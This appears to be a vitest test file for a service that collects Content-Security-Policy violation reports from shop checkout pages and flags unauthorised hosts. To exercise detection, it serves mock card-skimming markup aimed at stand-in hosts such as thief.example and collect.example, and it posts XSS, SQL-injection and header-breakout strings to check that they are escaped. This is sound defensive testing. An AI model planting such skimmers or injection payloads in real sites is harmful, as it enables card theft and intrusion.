import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { serve } from '@hono/node-server';
import { Hono } from 'hono';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openBrowser } from '#engines/browser/open-browser.ts';
import { productFiles } from '#engines/files/product-files.ts';
import type { House } from '#engines/house.ts';
import { openTelemetry } from '#engines/telemetry/open-telemetry.ts';
import { openTestHouse, type TestHouse } from '#engines/testing/open-test-house.ts';
import type { Scope } from '#engines/verb.ts';
import { intakeRoutes, reportsAddress } from '#intake/index.ts';
import type { ShopId } from '#kernel/ids.ts';
import { DAY, HOUR } from '#kernel/time.ts';
import { addSource, findShop, registerShop } from '#registry/index.ts';
import { serveRooms } from '#web/testing/serve-rooms.ts';
import { goldenInspection, got } from '../checks/golden-inspection.ts';
import { goldenFrame, goldenHost, goldenPayment, goldenScript } from '../checks/payment/golden-payment.ts';
import { paymentVisitors } from '../checks/payment/payment-visitors.ts';
import { authoriseScripts, finishInspection, startInspection } from '../index.ts';
import type { PaymentPage } from '../inspection.ts';
import { routes } from '../routes.tsx';
import { readAuthorised } from './read-authorised.ts';
import { readInventory } from './read-inventory.ts';
import { readVisitors } from './read-visitors.ts';
import { shopsWithStrangers } from './shops-with-strangers.ts';
import { suggestPolicy } from './suggest-policy.ts';
import { confidenceOf } from './visitor-host.ts';

let house: TestHouse;
let server: Server;
let door: ReturnType<typeof serve>;
let doorUrl: string;
let header = '';
let body = '';
let scope: Scope;
let shop: ShopId;
let address: string;

const portOf = (at: unknown) => (at as AddressInfo).port;

beforeAll(async () => {
  // The port is asked for while pages are shown: the house must be there before it can answer.
  const ports = { reportsAddress: (...asked: Parameters<typeof addressOf>) => addressOf(...asked) } as unknown as House['ports'];
  house = await openTestHouse(async (folder) => ({
    telemetry: await openTelemetry({ path: join(folder, 'telemetry'), retentionDays: null }),
    browser: openBrowser({ cacheFolder: join(folder, 'browser') }),
    ports,
  }));
  door = serve({
    fetch: new Hono().route('/in', intakeRoutes({ house, authorise: async () => null })).fetch,
    port: 0,
    hostname: '127.0.0.1',
  });
  await new Promise<void>((resolve) => door.once('listening', () => resolve()));
  doorUrl = `http://127.0.0.1:${portOf(door.address())}`;
  server = createServer((_request, response) => {
    for (const line of header.split('\n')) response.setHeader(line.slice(0, line.indexOf(':')), line.slice(line.indexOf(':') + 1).trim());
    response.setHeader('content-type', 'text/html').end(`<!doctype html>${body}`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  door.close();
  server.close();
  await house[Symbol.asyncDispose]();
});

const addressOf = async (org: Scope['org'], of: ShopId) => {
  const url = await reportsAddress(house, org, of);
  return url === null ? null : url.replace(house.publicUrl, doorUrl);
};
const shopUrl = () => `http://localhost:${portOf(server.address())}`;

beforeEach(async () => {
  house.setNow(new Date('2026-03-01T10:05:00Z'));
  scope = house.scope(house.newOrg(), 'owner');
  ({ shop } = await registerShop(scope, {
    ...{ name: 'Shop', url: shopUrl(), platform: 'generic', allowPrivate: true, timeZone: 'UTC', country: 'PL' },
    contact: { name: 'Care', address: 'care@shop.example', phone: '555' },
    privacyContact: { name: 'Officer', address: 'officer@shop.example' },
  }));
  await addSource(scope, { kind: 'reports', shop, name: 'visitors' });
  address = (await addressOf(scope.org, shop)) ?? '';
});

function paymentPage(): PaymentPage {
  const url = `${shopUrl()}/checkout`;
  return goldenPayment({
    ...{ url, finalUrl: url, frames: [goldenFrame('https://pay.example/f')], typed: [] },
    scripts: [goldenScript({ url: `${shopUrl()}/a.js`, shape: 'b'.repeat(64) })],
    hosts: [goldenHost('pay.example')],
    forms: [{ action: `${shopUrl()}/pay`, fields: ['card'] }],
  });
}

const visitors = async () => readVisitors(scope, await house.state.inOrg(scope.org, (db) => findShop(db, shop)), null);
const told = async () => {
  const read = await visitors();
  if (read?.kind !== 'got') throw new Error(read?.reason ?? 'there is no source');
  return read.value;
};
const judge = async () => {
  const authorised = await house.state.inOrg(scope.org, (db) => readAuthorised(db, scope.org, shop, house.clock.now()));
  const inspection = goldenInspection({ payment: got(paymentPage()), authorised, visitors: await visitors() });
  return { inspection, judgement: paymentVisitors.notFor?.(inspection) ?? paymentVisitors.judge(inspection) };
};
const keep = async () => {
  const machine = house.scope(scope.org);
  const { inspection } = await judge();
  const { run } = await startInspection(machine, { shop, queue: false });
  await finishInspection(machine, { run, inspection, artifact: 'none', elapsedMs: 1 });
};
const send = (host: string, agent: string, directive = 'connect-src') =>
  fetch(address, {
    method: 'POST',
    headers: { 'content-type': 'application/csp-report', 'user-agent': agent },
    body: JSON.stringify({
      'csp-report': { 'document-uri': `${shopUrl()}/checkout`, 'blocked-uri': `https://${host}/p?x=1`, 'effective-directive': directive },
    }),
  });

describe('what browsers of visitors report', () => {
  it('in a real browser with the headers that the console offers: scripts, frames, requests, and where a form sends to', async () => {
    header = suggestPolicy(paymentPage(), null, address).observe;
    body = `<script src="https://thief.example/s.js?card=4929"></script><iframe src="https://fake-pay.example/form"></iframe>
      <form method="get" action="https://collect.example/take"><input name="cc" value="1"></form>
      <script>fetch('https://beacon.example/c?d=1').catch(() => 0); setTimeout(() => document.forms[0].submit(), 600);</script>`;
    await house.browser.withContext({ allowPrivate: true }, async (context) => {
      const page = await context.newPage();
      await page.goto(`${shopUrl()}/checkout?order=77`, { waitUntil: 'domcontentloaded' });
      await expect
        .poll(async () => (await told()).map(({ host }) => host).sort(), { timeout: 15_000 })
        .toEqual([...['beacon.example', 'collect.example', 'fake-pay.example', 'thief.example']]);
    });
    const all = await told();
    expect(Object.fromEntries(all.map(({ host, directives }) => [host, directives.join()]))).toEqual({
      ...{
        'beacon.example': 'connect-src',
        'collect.example': 'form-action',
        'fake-pay.example': 'frame-src',
        'thief.example': 'script-src-elem',
      },
    });
    expect(JSON.stringify(all)).not.toMatch(/4929|order=77|d=1/);
    expect(all.map(confidenceOf)).toEqual(['low', 'low', 'low', 'low']);
  });

  it('by the Reporting API: a real browser’s own report and its preflight from another origin are taken', async () => {
    header = "Content-Security-Policy-Report-Only: script-src 'self' 'unsafe-inline'";
    body = `<script>new ReportingObserver((reports) => fetch('${address}', { method: 'POST', mode: 'cors', headers: { 'content-type': 'application/reports+json' },
      body: JSON.stringify(reports.map((one) => ({ age: 1, type: one.type, url: one.url, user_agent: navigator.userAgent, body: one.body.toJSON() }))) }), { types: ['csp-violation'], buffered: true }).observe()</script>
      <script src="https://thief.example/s.js"></script>`;
    await house.browser.withContext({ allowPrivate: true }, async (context) => {
      const page = await context.newPage();
      await page.goto(`${shopUrl()}/checkout`, { waitUntil: 'domcontentloaded' });
      await expect.poll(async () => (await told()).map(({ host }) => host), { timeout: 15_000 }).toEqual(['thief.example']);
    });
    expect((await told())[0]).toMatchObject({ directives: ['script-src-elem'], reports: 1, hours: 1, agents: 1 });
  });

  it('a batch of the Reporting API with scripts without integrity comes into the same list', async () => {
    const url = `${shopUrl()}/checkout`;
    const integrity = { documentURL: url, blockedURL: 'https://unpinned.example/s.js', destination: 'script', reportOnly: true };
    const policy = {
      documentURL: url,
      blockedURL: 'https://thief.example/s.js',
      effectiveDirective: 'script-src-elem',
      disposition: 'report',
    };
    const batch = [
      { type: 'integrity-violation', age: 1, url, body: integrity },
      { type: 'csp-violation', age: 1, url, body: policy },
      { type: 'deprecation', age: 1, url, body: { id: 'x' } },
    ];
    await fetch(address, { method: 'POST', headers: { 'content-type': 'application/reports+json' }, body: JSON.stringify(batch) });
    const all = (await told()).map(({ host, directives }) => `${host} ${directives.join()}`);
    expect(all.sort()).toEqual(['thief.example script-src-elem', 'unpinned.example script']);
  });

  it('rings only when it takes more than one forged burst, says how sure it is, and is authorised like any host', async () => {
    await keep();
    expect((await judge()).judgement).toBe('nobody has authorised the hosts of the payment page yet');
    await authoriseScripts(scope, { shop, reason: 'as it is' });
    for (let nth = 0; nth < 50; nth++) await send('thief.example', nth % 2 === 0 ? 'Chrome/147 Safari/5' : 'Firefox/140');
    await send('pay.example', 'Firefox/140');
    expect((await judge()).judgement).toMatchObject({ outcome: 'unknown', weaknesses: [] });
    expect(await shopsWithStrangers(house.scope(scope.org))).toEqual([]);
    house.advance(HOUR);
    await send('thief.example', 'Firefox/140');
    expect((await judge()).judgement).toMatchObject({ outcome: 'fail', weaknesses: [{ key: 'thief.example', severity: 'medium' }] });
    for (const ms of [DAY, HOUR]) {
      house.advance(ms);
      await send('thief.example', 'Version/19 Mobile Safari/605');
    }
    expect((await judge()).judgement).toMatchObject({
      weaknesses: [{ severity: 'high', evidence: [{ text: expect.stringContaining('confidence high') }, {}] }],
    });
    expect(await shopsWithStrangers(house.scope(scope.org))).toEqual([shop]);
    await keep();
    expect(await shopsWithStrangers(house.scope(scope.org))).toEqual([]);
    const { hosts } = await house.state.inOrg(scope.org, (db) => readInventory(db, scope.org, shop, house.clock.now()));
    expect(hosts.find(({ host }) => host === 'thief.example')).toMatchObject({ looked: false, standing: 'new', visitors: { days: 2 } });
    await authoriseScripts(scope, { shop, items: [{ kind: 'host', key: 'thief.example' }], reason: 'an honest mistake' });
    expect((await judge()).judgement).toMatchObject({ outcome: 'pass' });
    house.advance(31 * DAY);
    expect(await told()).toEqual([]);
  });

  it('of other pages, other shops and the shop itself says nothing; what is hostile stays a text', async () => {
    const post = (document: string, blocked: string) =>
      fetch(address, {
        method: 'POST',
        body: JSON.stringify({ 'csp-report': { 'document-uri': document, 'blocked-uri': blocked, 'effective-directive': '<i-hostile>' } }),
      });
    await post(`${shopUrl()}/blog`, 'https://a.example/');
    await post('https://elsewhere.example/checkout', 'https://b.example/');
    await post(`${shopUrl()}/checkout`, `${shopUrl()}/own`);
    await post(`${shopUrl()}/checkout`, 'https://<script>alert(1)</script>/x');
    await post(`${shopUrl()}/checkout`, "https://x'; drop table reports; --.example/");
    await post(`${shopUrl()}/checkout`, `https://${'zq'.repeat(450)}.example/`);
    expect(await told()).toEqual([]);
    await post(`${shopUrl()}/checkout`, 'https://c.example/');
    expect((await told()).map(({ host }) => host)).toEqual(['c.example']);
    const app = serveRooms(productFiles, () => scope, { '/inspect': routes() });
    const html = await (await app.request(`/inspect/shops/${shop}/inventory`)).text();
    expect(html).toContain('c.example');
    expect(html).toContain('The payment page was not looked at yet');
    expect(html).not.toContain('Everything on the payment page is authorised');
    expect(html).toContain('&lt;i-hostile&gt;');
    expect(html).not.toContain('<i-hostile>');
  });

  it('is asked for with a policy that lists what stands on the page and nothing that could break out of the header', () => {
    const odd = {
      ...paymentPage(),
      frames: ['https://pay.example/f', 'about:srcdoc', 'https://x;script-src *.example/'].map((frame) => goldenFrame(frame)),
    };
    const hosts = [...paymentPage().hosts, goldenHost('thief.example')];
    expect(suggestPolicy({ ...odd, hosts }, null, 'https://b.example/').observe).toContain('thief.example');
    expect(suggestPolicy({ ...odd, hosts }, ['pay.example'], 'https://b.example/').observe).not.toContain('thief.example');
    const { observe, enforce } = suggestPolicy(
      odd,
      ['pay.example', 'cdn.example', "evil; script-src 'unsafe-inline'"],
      'https://bell.example/in/reports/x',
    );
    expect(observe).toContain(
      "frame-src 'self' pay.example; form-action 'self'; report-to shopbell; report-uri https://bell.example/in/reports/x",
    );
    expect(observe).toContain("connect-src 'self' pay.example cdn.example;");
    expect(`${observe}${enforce}`).not.toMatch(/evil|srcdoc|x;script/);
    expect(enforce).toMatch(/^Content-Security-Policy: default-src/m);
    expect(enforce).toContain("object-src 'none'; base-uri 'none'");
  });
});
